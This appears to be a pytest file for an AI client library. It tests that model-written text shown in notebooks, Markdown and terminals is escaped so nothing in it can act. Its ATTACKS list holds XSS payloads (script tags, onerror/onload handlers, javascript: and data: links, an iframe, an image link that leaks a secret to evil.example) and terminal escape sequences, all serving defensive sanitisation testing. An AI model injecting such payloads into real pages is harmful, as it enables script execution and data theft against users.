"""Answers in notebooks: nothing that a model writes acts there."""

from __future__ import annotations

import io
import sys
from dataclasses import dataclass
from html.parser import HTMLParser
from types import ModuleType, SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import makai
from makai.client.notebook import LiveAnswer
from makai.testing import ScriptedModel, call, fail, usage

HARMLESS_TAGS = {
    "div", "p", "pre", "code", "em", "strong", "a", "ul", "ol", "li", "blockquote", "hr", "br", "s",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1)) [y](JAVA\tSCRIPT:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:a) <javascript:alert(1)>",
    '```js"><script>alert(1)</script>\nx\n```',
    '[a](https://x "\\"><script>alert(1)</script>")',
    "</pre></div><iframe src=//evil>",
    "&lt;script&gt; <!-- --><svg/onload=alert(1)>",
    "| <b onclick=a> |\n|---|\n| <i> |",
    "```\nunclosed",
    "`````\n```\n<script>",
    "\x1b]0;title\x07 \u202e \x00",
]


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS_TAGS:
            self.problems.append(tag)
        for name, value in attributes:
            is_link = name == "href" and not (value or "").lower().strip().startswith(
                ("javascript", "vbscript", "data")
            )
            if not is_link and name not in ("class", "style", "title", "start"):
                self.problems.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


def response(text: str, **fields: Any) -> makai.AgentRunResponse:
    calls = fields.pop("calls", ())
    content = (makai.TextContentPart(text=text), *calls)
    return makai.AgentRunResponse(message=makai.ChatMessage(role="assistant", content=content), **fields)


def hostile_forms(text: str) -> list[str]:
    """Every place of the HTML that text of a model can get into."""
    tool_call = makai.ToolCallContentPart(tool_call_id="1", name=text, arguments_json=text)
    live = LiveAnswer()
    for event in (
        makai.TextDeltaEvent(text),
        makai.ToolCallEvent(name=text, arguments_json=text, tool_call_id="1"),
        makai.ErrorEvent(message=text),
    ):
        live.take(event)
    return [
        response(text, calls=(tool_call,), model_id=text)._repr_html_(),
        response("", output=[text])._repr_html_(),
        makai.OneShotAnswer(text=text)._repr_html_(),
        live._repr_html_(),
    ]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_a_model_writes_acts_in_html(text: str) -> None:
    for html in hostile_forms(text):
        assert Tags(html).problems == []


@given(
    st.one_of(st.text(), st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "    ", "`", "<", ">", '"'])).map("".join))
)
def test_no_text_at_all_acts_in_html_and_markdown_holds_it_as_code(text: str) -> None:
    for html in hostile_forms(text):
        assert Tags(html).problems == []
    tokens = MarkdownIt("commonmark").parse(response(text)._repr_markdown_())
    assert [token.type for token in tokens] == ["fence"]


def test_an_answer_is_rendered_with_its_model_and_its_cost() -> None:
    usage = makai.UsageSummary(input=1200, output=3, cost_usd=0.5)
    answer = response("**Hi** `Vec<String>`", model_id="m", usage=usage)

    assert answer._repr_html_() == (
        "<div><p><strong>Hi</strong> <code>Vec&lt;String&gt;</code></p>\n"
        '<div style="color:gray;font-size:small">m · 1,200 tokens in · 3 out · $0.5000</div></div>'
    )
    assert answer._repr_markdown_() == "```\n**Hi** `Vec<String>`\n```\n\n`m · 1,200 tokens in · 3 out · $0.5000`"


@dataclass
class Person:
    name: str


def test_an_answer_with_a_type_shows_its_value() -> None:
    answer = response('{"name": "<b>"}', output=Person("<b>"))

    assert answer._repr_html_() == "<div><pre>Person(name=&#x27;&lt;b&gt;&#x27;)</pre></div>"
    assert makai.OneShotAnswer(text="{}", value=Person("A"))._repr_markdown_() == "```\nPerson(name='A')\n```"


def look() -> str:
    """Look."""
    return "seen"


async def test_a_stream_is_shown_as_text_where_there_is_no_notebook(capsys: pytest.CaptureFixture[str]) -> None:
    with ScriptedModel(["Let me look.", call("look"), call("gone")], "Fine.\x1b[2J") as model:
        async with model.connect() as client:
            answer = await makai.show(client.agent.stream(model_ref=model.ref, messages="Hi", tools=[look]))

    assert answer is not None
    assert answer.text == "Fine.\x1b[2J"
    assert capsys.readouterr().out == "Let me look.\n[look {}]\n[gone {}]\n[the tool failed]\nFine.\x1b[2J\n"
    assert "IPython" not in sys.modules


def test_a_terminal_gets_nothing_that_acts(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = io.StringIO()
    terminal.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stdout", terminal)
    with ScriptedModel("A\x1b[2J") as model, model.connect_sync() as client:
        makai.show(client.provider.stream(model_ref=model.ref, messages="Hi"))

    assert terminal.getvalue() == "A\\x1b[2J\n"


class Display:
    """The part of IPython that is used, with what was drawn."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, shell: object) -> None:
        self.drawn: list[str] = []
        package, module = ModuleType("IPython"), ModuleType("IPython.display")
        package.get_ipython = lambda: shell  # type: ignore[attr-defined]
        module.display = self.display  # type: ignore[attr-defined]
        monkeypatch.setitem(sys.modules, "IPython", package)
        monkeypatch.setitem(sys.modules, "IPython.display", module)

    def display(self, value: Any, *, display_id: bool) -> Any:
        assert display_id
        self.drawn.append(value._repr_html_())
        return SimpleNamespace(update=lambda value: self.drawn.append(value._repr_html_()))


async def test_a_notebook_has_one_output_that_grows(monkeypatch: pytest.MonkeyPatch) -> None:
    display = Display(monkeypatch, SimpleNamespace(kernel=1))
    with ScriptedModel(["*Look*", call("look"), usage(1, 2)], "<b>Fine.") as model:
        async with model.connect() as client:
            answer = await makai.show(client.agent.stream(model_ref=model.ref, messages="Hi", tools=[look]))

    grey = '<div style="color:gray;font-size:small">'
    assert answer is not None
    assert display.drawn[0] == "<div></div>"
    assert display.drawn[-1] == (
        f"<div><p><em>Look</em></p>\n{grey}<code>look {{}}</code></div><p>&lt;b&gt;Fine.</p>\n"
        f"{grey}1 tokens in · 2 out</div></div>"
    )


@pytest.mark.parametrize("shell", [None, SimpleNamespace(kernel=1)], ids=["terminal", "notebook"])
def test_a_failure_is_shown_and_raised(
    shell: object, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    display = Display(monkeypatch, shell)
    with ScriptedModel(["Half", fail("context_overflow", "Too <long>.")]) as model, model.connect_sync() as client:
        stream = client.provider.stream(model_ref=model.ref, messages="Hi")
        with pytest.raises(makai.MakaiStreamError, match="Too <long>"):
            makai.show(stream)

    if shell is None:
        assert (display.drawn, capsys.readouterr().out) == ([], "Half\n")
    else:
        assert display.drawn[-1] == '<div><p>Half</p>\n<pre style="color:#b00020">Too &lt;long&gt;.</pre></div>'
